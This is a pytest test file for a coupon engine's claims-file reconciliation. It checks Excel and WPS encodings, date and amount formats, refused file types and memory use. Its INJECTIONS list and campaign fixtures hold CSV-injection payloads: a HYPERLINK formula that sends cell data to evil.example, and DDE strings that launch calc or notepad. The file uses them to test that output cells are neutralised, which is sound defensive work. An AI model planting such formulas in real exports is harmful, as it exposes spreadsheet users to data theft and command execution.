"""Claims files as venues really send them (contract section 5, docs/ledger.md
"Claims files"), through `coupon-engine reconcile` / `settle`: re-saved by Excel
(BOM, CRLF, yyyy/m/d h:mm, 10000.00, "10,000", ="..." cells), saved by WPS on
Chinese Windows (GBK, Chinese columns), workbooks and UTF-16 sent instead of CSV,
';'-separated exports, an oversized pasted cell, formula text that must not run in
the operator's spreadsheet, and a big file that must not grow the memory."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from conftest import campaign_toml
from test_ledger import BASE_MS, World, make_campaign
from test_reconcile import run

from engine import campaign as cmp
from engine import codes
from engine.ledger import Ledger
from engine.ledger import cli as cli_ledger

TZ = ZoneInfo("Asia/Shanghai")
# What Excel and WPS evaluate as a formula (OWASP, "CSV Injection"); written out here
# rather than taken from the engine, so that the test does not trust what it checks.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CLI = [sys.executable, "-m", "engine.cli"]


@pytest.fixture
def scene(redis_url: str, tmp_path: Path):
    """As tests/test_reconcile.py's: V01 has ten redeemed coupons a0..a9 (a minute
    apart from 19:00 local time), two issued, one void; V02 one redeemed."""
    w = World(redis_url, make_campaign())
    a = [w.grant("V01", f"m{i}") for i in range(10)]
    at = {code: BASE_MS + 3_600_000 + i * 60_000 for i, code in enumerate(a)}
    for code in a:
        w.redeem(code, at[code])
    issued = [w.grant("V01", "mi1"), w.grant("V01", "mi2")]
    voided = w.grant("V01", "mv")
    w.void(voided, BASE_MS + 5000)
    other = w.grant("V02", "mo")
    w.redeem(other, BASE_MS + 7000)
    w.flush()
    yield {"w": w, "a": a, "at": at, "issued": issued, "voided": voided, "other": other,
           "url": redis_url, "dir": tmp_path}
    w.close()


def local(ms: int, fmt: str) -> str:
    return datetime.fromtimestamp(ms / 1000, tz=UTC).astimezone(TZ).strftime(fmt)


def excel_time(ms: int) -> str:
    """What Excel shows (and saves) for a time on Chinese Windows: 2024/12/20 19:00."""
    dt = datetime.fromtimestamp(ms / 1000, tz=UTC).astimezone(TZ)
    return f"{dt.year}/{dt.month}/{dt.day} {dt.hour}:{dt.minute:02d}"


def write_rows(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    """A CSV as a spreadsheet program writes it: csv quoting, CRLF line ends."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def reconcile(scene: dict, path: Path, capsys: pytest.CaptureFixture[str],
              cmd: str = "reconcile") -> tuple[int, dict | None, str, list[dict]]:
    out = scene["dir"] / "out"
    rc = run(scene, cmd, "--venue", "V01", "--claims", str(path), "--out", str(out))
    captured = capsys.readouterr()
    summary = json.loads(captured.out) if rc == 0 else None
    rows: list[dict] = []
    if rc == 0:
        raw = (out / "reconciliation.csv").read_bytes().decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(raw)))
    return rc, summary, captured.err, rows


def test_an_excel_resaved_file_pays_every_claim(scene: dict,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    a, at = scene["a"], scene["at"]
    forms = [
        (excel_time(at[a[0]]), "10000.00"),                     # Excel's re-save
        (excel_time(at[a[1]]), "10,000"),                       # thousands separator
        (local(at[a[2]], "%Y/%m/%d %H:%M:%S"), "10,000.00"),
        (local(at[a[3]], "%Y-%m-%d %H:%M"), "10000"),
        (local(at[a[4]], "%Y-%m-%dT%H:%M:%S+08:00"), "10000"),  # RFC 3339, as before
        (local(at[a[5]], "%Y/%m/%dT%H:%M"), "10000"),
        (datetime.fromtimestamp(at[a[6]] / 1000, tz=UTC).strftime("%Y/%m/%d %H:%M Z"),
         "10000"),
        (local(at[a[7]], "%Y-%m-%d %H:%M:%S.000"), '="10000"'),  # ="..." keeps text
    ]
    rows = [["code", "redeemed_at", "amount_fen", "门店", "备注", "合计"]]
    for i, (t, amount) in enumerate(forms):
        code = codes.display(a[i]) if i % 2 else f'="{codes.display(a[i])}"'
        rows.append([code, t, amount, "北大湖滑雪场", "已核销，请结算", "9900"])
    path = write_rows(scene["dir"] / "excel.csv", rows)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfcode,") and b"\r\n" in path.read_bytes()
    assert b'"10,000"' in path.read_bytes()
    rc, summary, err, out_rows = reconcile(scene, path, capsys)
    assert rc == 0, err
    assert summary is not None
    assert summary["counts"]["matched"] == 8, out_rows
    assert summary["counts"]["invalid_row"] == 0 and summary["time_skew"] == 0
    assert summary["payable_fen"] == 8 * 9900
    assert err == ""  # nothing unreadable: no warning


def test_a_wps_gbk_file_with_chinese_columns(scene: dict,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    """WPS (and Excel's plain "CSV") on Chinese Windows saves GBK: the ignored Chinese
    columns must not break the codes, and Chinese in a read column is shown as such."""
    a, at = scene["a"], scene["at"]
    rows = [["序号", "code", "门店名称", "redeemed_at", "amount_fen", "核销员"]]
    for i in range(5):
        rows.append([str(i + 1), codes.display(a[i]), "北大湖滑雪场（吉林）",
                     excel_time(at[a[i]]), "10000", "张三"])
    rows.append(["6", "无效券码", "北大湖", excel_time(at[a[5]]), "10000", "李四"])
    path = write_rows(scene["dir"] / "wps.csv", rows, encoding="gbk")
    raw = path.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    rc, summary, err, out_rows = reconcile(scene, path, capsys)
    assert rc == 0, err
    assert summary is not None
    assert summary["counts"]["matched"] == 5 and summary["counts"]["invalid_row"] == 1
    bad = next(r for r in out_rows if r["class"] == "invalid_row")
    assert bad["claimed_code"] == "无效券码" and bad["line"] == "7"


@pytest.mark.parametrize("amount, ok", [
    ("10000", True), ("10000.00", True), ("10,000", True), ("10,000.00", True),
    (" 10000 ", True), ("10000.50", False), ("10000.5", False), ("１００００", False),
    ("-10000", False), ("1,0000", False), ("10000元", False), ("", False),
])
def test_amounts(scene: dict, capsys: pytest.CaptureFixture[str], amount: str,
                 ok: bool) -> None:
    a, at = scene["a"], scene["at"]
    path = write_rows(scene["dir"] / "amounts.csv", [
        ["code", "redeemed_at", "amount_fen"], [a[0], excel_time(at[a[0]]), amount]])
    rc, summary, err, rows = reconcile(scene, path, capsys)
    assert rc == 0 and summary is not None
    assert summary["counts"]["matched" if ok else "invalid_row"] == 1, rows
    if not ok:
        assert "bad amount_fen" in rows[0]["note"]


@pytest.mark.parametrize("when, ok", [
    ("2024/12/20 19:00", True), ("2024/12/20 19:00:00", True), ("2024-12-20 19:00", True),
    ("2024-12-20T19:00:00+08:00", True), ("2024/12/20T19:00", True),
    ("2024/12/20 11:00Z", True), ("2024/12/20 19:00 +08:00", True),
    ("２０２４/12/20 19:00", False), ("2024/12/20 １９:00", False), ("2024/13/20 19:00", False),
    ("12/20/2024 19:00", False), ("2024/12/20 25:00", False), ("yesterday", False),
    ("2024-12/20 19:00", False),
])
def test_times(scene: dict, capsys: pytest.CaptureFixture[str], when: str, ok: bool) -> None:
    a = scene["a"]
    assert excel_time(scene["at"][a[0]]) == "2024/12/20 19:00"
    path = write_rows(scene["dir"] / "times.csv", [
        ["code", "redeemed_at", "amount_fen"], [a[0], when, "10000"]])
    rc, summary, err, rows = reconcile(scene, path, capsys)
    assert rc == 0 and summary is not None
    if ok:
        assert summary["counts"]["matched"] == 1 and summary["time_skew"] == 0, rows
    else:
        assert summary["counts"]["invalid_row"] == 1 and "bad redeemed_at" in rows[0]["note"]


def test_non_ascii_digits_in_a_code_are_refused(scene: dict,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    a, at = scene["a"], scene["at"]
    wide = codes.display(a[0]).translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    assert wide != codes.display(a[0])
    path = write_rows(scene["dir"] / "wide.csv", [
        ["code", "redeemed_at", "amount_fen"], [wide, excel_time(at[a[0]]), "10000"]])
    rc, summary, _, _ = reconcile(scene, path, capsys)
    assert rc == 0 and summary is not None and summary["counts"]["invalid_row"] == 1


def test_many_unreadable_rows_are_warned_about(scene: dict,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    """The Excel re-save that used to pay nothing in silence: more than 1 % of rows
    unreadable gives a warning naming the count and the first lines (exit 0)."""
    a, at = scene["a"], scene["at"]
    rows = [["code", "redeemed_at", "amount_fen"]]
    rows += [[a[i], excel_time(at[a[i]]), "10000"] for i in range(7)]
    rows += [[a[7], "2024/12/20 7:00 PM", "10000"], [a[8], excel_time(at[a[8]]), "1万"],
             ["HELLO", excel_time(at[a[9]]), "10000"]]
    path = write_rows(scene["dir"] / "mixed.csv", rows)
    for cmd in ("reconcile", "settle"):
        rc, summary, err, _ = reconcile(scene, path, capsys, cmd)
        assert rc == 0 and summary is not None
        assert summary["counts"]["invalid_row"] == 3
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("coupon-engine: warning: 3 of 10 rows")
        assert "line 9: bad redeemed_at '2024/12/20 7:00 PM'" in lines[0]
        assert "line 10: bad amount_fen '1万'" in lines[0] and "line 11: bad code" in lines[0]
    # One unreadable row in more than a hundred is no warning.
    rows = [["code", "redeemed_at", "amount_fen"]] + \
        [[a[i % 7], excel_time(at[a[i % 7]]), "10000"] for i in range(120)] + \
        [["HELLO", "x", "y"]]
    rc, summary, err, _ = reconcile(scene, write_rows(scene["dir"] / "fine.csv", rows), capsys)
    assert rc == 0 and err == ""


def xlsx_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    return buf.getvalue()


@pytest.mark.parametrize("name, content, needles", [
    ("claims.xlsx", xlsx_bytes(), ["Excel/WPS workbook (.xlsx", "CSV UTF-8"]),
    ("claims.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
     ["Excel 97-2003 workbook (.xls)"]),
    ("unicode.txt", "code\tredeemed_at\tamount_fen\r\nX\tY\tZ\r\n".encode("utf-16"),
     ["UTF-16"]),
    ("semicolon.csv", "\ufeffcode;redeemed_at;amount_fen\r\nX;Y;Z\r\n".encode(),
     ["'code;redeemed_at;amount_fen'", "';'-separated"]),
    ("tabs.csv", b"code\tredeemed_at\tamount_fen\r\n", ["tab-separated"]),
    ("chinese.csv", "券码,核销时间,金额\r\n".encode("gbk"),
     ["lacks column(s) code, redeemed_at, amount_fen", "'券码,核销时间,金额'"]),
    ("empty.csv", b"", ["empty file"]),
])
def test_a_refused_file_says_what_was_found(scene: dict, capsys: pytest.CaptureFixture[str],
                                            name: str, content: bytes,
                                            needles: list[str]) -> None:
    path = scene["dir"] / name
    path.write_bytes(content)
    for cmd in ("reconcile", "settle"):
        rc, _, err, _ = reconcile(scene, path, capsys, cmd)
        assert rc == 2
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("coupon-engine: "), err
        for n in needles:
            assert n in lines[0], lines[0]
    assert not (scene["dir"] / "out" / "summary.json").exists()
    with Ledger(scene["dir"] / "data" / "ledger.sqlite3") as led:
        assert led.settlement_count() == 0


def test_one_oversized_field_spoils_only_its_row(scene: dict,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    a, at = scene["a"], scene["at"]
    rows = [["code", "redeemed_at", "amount_fen", "备注"]]
    rows += [[a[i], excel_time(at[a[i]]), "10000", "ok"] for i in range(4)]
    rows.insert(3, [a[4], excel_time(at[a[4]]), "10000", "粘贴" * 100_000])  # 200,000 chars
    rc, summary, err, out = reconcile(scene, write_rows(scene["dir"] / "big.csv", rows),
                                      capsys, "settle")
    assert rc == 0 and summary is not None, err
    assert summary["counts"]["matched"] == 4 and summary["counts"]["invalid_row"] == 1
    bad = next(r for r in out if r["class"] == "invalid_row")
    assert bad["line"] == "4" and "field larger than field limit" in bad["note"]


INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击领奖")', "+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "\t=1+1",
              "\r=1+1"]


def assert_no_formula(path: Path) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell):
                continue  # a number (-5, -12.34) runs nothing
            assert not cell.startswith(FORMULA_START), (path.name, cell)
    return rows


def test_formula_text_never_reaches_a_spreadsheet_as_a_formula(
        redis_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Claims (a venue's raw text) and venue names (the campaign file) go into
    reconciliation.csv and statement.csv; none may start a cell with = + - @ TAB CR."""
    base = make_campaign(venues=("V01", "V02"))
    text = campaign_toml(venues=("V01", "V02"), rounds=[
        {"id": r.id, "opens": datetime.fromtimestamp(r.opens_at_ms / 1000, tz=UTC),
         "closes": datetime.fromtimestamp(r.closes_at_ms / 1000, tz=UTC), "stock": r.stock}
        for r in base.rounds])
    text = text.replace('name = "场馆V01"', "name = '=HYPERLINK(\"http://evil/\",\"场馆\")'")
    text = text.replace('name = "测试活动"', "name = '@SUM(1+1)'")
    c = cmp.parse_campaign(text)
    w = World(redis_url, c)
    good = w.grant("V01", "m1")
    w.redeem(good, BASE_MS + 60_000)
    w.flush()
    rows = [["code", "redeemed_at", "amount_fen", "备注"]]
    rows += [[inj, "2024-12-20T18:01:00+08:00", "10000", inj] for inj in INJECTIONS]
    rows += [[good, "=NOW()", "10000", "ok"], [good, "2024-12-20T18:01:00+08:00", "+1", "x"]]
    claims = write_rows(tmp_path / "evil.csv", rows)
    sc = {"url": redis_url, "dir": tmp_path}
    out = tmp_path / "out"
    assert run(sc, "reconcile", "--venue", "V01", "--claims", str(claims), "--out",
               str(out)) == 0
    capsys.readouterr()
    got = assert_no_formula(out / "reconciliation.csv")
    claimed = [r[3] for r in got[1:] if r[1] == "invalid_row"]
    # Shown as the venue wrote them, behind the quote that keeps them text.
    assert ["'" + inj for inj in INJECTIONS] + [good, good] == claimed
    assert all(r[5] == "'=HYPERLINK(\"http://evil/\",\"场馆\")" for r in got[1:])
    assert run(sc, "statement", "--out", str(out)) == 0
    capsys.readouterr()
    st = assert_no_formula(out / "statement.csv")
    assert st[1][1].startswith("'=HYPERLINK") and st[-1][1] == "'@SUM(1+1)"
    # The round report's CSVs (coupon-engine report) name the venues too.
    report = tmp_path / "report"
    assert cli_ledger.main(["report", "--round", "R1", "--out", str(report), "--data-dir",
                            str(tmp_path / "data")]) == 0
    capsys.readouterr()
    names = [cell for f in sorted(report.glob("*.csv")) for row in assert_no_formula(f)
             for cell in row]
    assert "'=HYPERLINK(\"http://evil/\",\"场馆\")" in names
    w.close()


# -- a big file: bounded memory, progress on a terminal ------------------------------


def big_claims(path: Path, n: int) -> None:
    """n claims of valid-looking codes (all unknown to the ledger), with a Chinese
    column, as a spreadsheet exports them."""
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        f.write("code,redeemed_at,amount_fen,门店,备注\r\n")
        for i in range(n):
            f.write(f"{codes.display(codes.new_code())},2024/12/20 19:{i % 60:02d},"
                    f"10000.00,北大湖滑雪场,第{i}行\r\n")


# The CLI's own entry point, then its peak resident memory (VmHWM: this program's
# high-water mark; wait4's ru_maxrss would count the pytest process the child was
# forked from).
PROBE = ("import sys; from engine.cli import main; rc = main(sys.argv[2:]);"
         " hwm = next(x for x in open('/proc/self/status') if x.startswith('VmHWM:'));"
         " open(sys.argv[1], 'w').write(hwm.split()[1]); sys.exit(rc)")


def run_child(args: list[str], out_base: Path, tty: bool,
              env_extra: dict[str, str] | None = None) -> tuple[int, str, str]:
    """``coupon-engine ARGS`` as a child process; returns its peak RSS (KiB), its
    stdout and what it wrote on stderr (a terminal when ``tty``)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("COUPON_")}
    env.update(env_extra or {})
    hwm = out_base.with_suffix(".hwm")
    err_r, err_w = pty.openpty() if tty else os.pipe()
    with open(out_base.with_suffix(".stdout"), "wb") as so:
        p = subprocess.Popen([sys.executable, "-c", PROBE, str(hwm), *args], env=env,
                             stdout=so, stderr=err_w, stdin=subprocess.DEVNULL)
    os.close(err_w)
    chunks = []
    while True:
        try:
            chunk = os.read(err_r, 65536)
        except OSError:  # a pty reads EIO once the child has closed it
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(err_r)
    assert p.wait(120) == 0, b"".join(chunks)
    stdout = out_base.with_suffix(".stdout").read_text("utf-8")
    return int(hwm.read_text()), stdout, b"".join(chunks).decode("utf-8", "replace")


def reconcile_child(data: Path, claims: Path, out: Path, tty: bool) -> tuple[int, str, str]:
    # COUPON_PROGRESS_AFTER=0: progress from the start, however fast the machine.
    return run_child(["reconcile", "--venue", "V01", "--claims", str(claims), "--out",
                      str(out), "--data-dir", str(data)], out, tty,
                     {"COUPON_PROGRESS_AFTER": "0"})


def test_memory_stays_bounded_and_progress_shows_on_a_terminal(tmp_path: Path) -> None:
    data = tmp_path / "data"
    with Ledger(data / "ledger.sqlite3") as led:
        led.save_campaign(make_campaign())
    small, big = tmp_path / "small.csv", tmp_path / "big.csv"
    big_claims(small, 10_000)
    big_claims(big, 100_000)
    assert big.stat().st_size > 7_000_000
    rss_small, out_small, err_small = reconcile_child(data, small, tmp_path / "o1", tty=False)
    rss_big, out_big, err_big = reconcile_child(data, big, tmp_path / "o2", tty=True)
    assert json.loads(out_small)["counts"]["unknown_code"] == 10_000
    assert json.loads(out_big)["counts"]["unknown_code"] == 100_000  # stdout: only the JSON
    grown = (rss_big - rss_small) / 1024
    print(f"peak RSS: {rss_small / 1024:.0f} MiB for 10,000 claims, {rss_big / 1024:.0f} MiB"
          f" for 100,000 ({big.stat().st_size / 1e6:.0f} MB)")
    # Holding the file in memory (the claims, or the outcomes) grew it by 18-50 MiB here.
    assert grown < 10, f"peak RSS grew by {grown:.0f} MiB for 90,000 more claims"
    assert err_small == ""  # a pipe gets no progress
    assert "\rcoupon-engine: reconcile big.csv: " in err_big and "% (" in err_big, err_big
